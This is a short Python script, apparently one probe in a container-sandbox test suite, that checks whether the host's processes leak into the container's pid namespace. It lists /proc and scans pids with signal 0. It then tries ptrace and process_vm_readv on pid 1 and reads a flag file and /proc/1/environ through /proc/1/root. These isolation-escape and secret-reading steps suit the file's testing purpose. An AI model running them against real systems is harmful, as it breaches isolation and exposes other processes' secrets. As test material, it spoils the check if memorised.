# SPDX-License-Identifier: Apache-2.0
"""The host's processes are in the container's pid namespace: read, trace or signal one."""
import ctypes
import os

from run import FLAG, syscall

RECORD = ["ptrace", "process_vm_readv"]


def strangers():
    mine = {1, os.getpid()}
    return [n for n in os.listdir("/proc") if n.isdigit() and int(n) not in mine]


def signalled():
    mine = [int(t) for t in os.listdir("/proc/self/task")]  # kill(2) takes a thread's id, too: one of an earlier script's may be waiting
    found = []
    for pid in range(2, 3000):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        except PermissionError:
            pass
        if pid not in mine:
            found.append(pid)
    return found


def attack(a):
    a.step("processes of others in /proc", strangers)
    a.step("processes of others by signal 0", signalled)
    a.step("ptrace pid 1", syscall, 101, 16, 1, 0, 0)
    word = ctypes.create_string_buffer(8)
    vector = (ctypes.c_ulong * 2)(ctypes.addressof(word), 8)
    a.step("read the memory of pid 1", syscall, 310, 1, vector, 1, vector, 1, 0)
    a.step("the root of pid 1", os.listdir, "/proc/1/root/")
    a.read("/proc/1/root" + FLAG)
    a.read("/proc/1/environ", b"=")
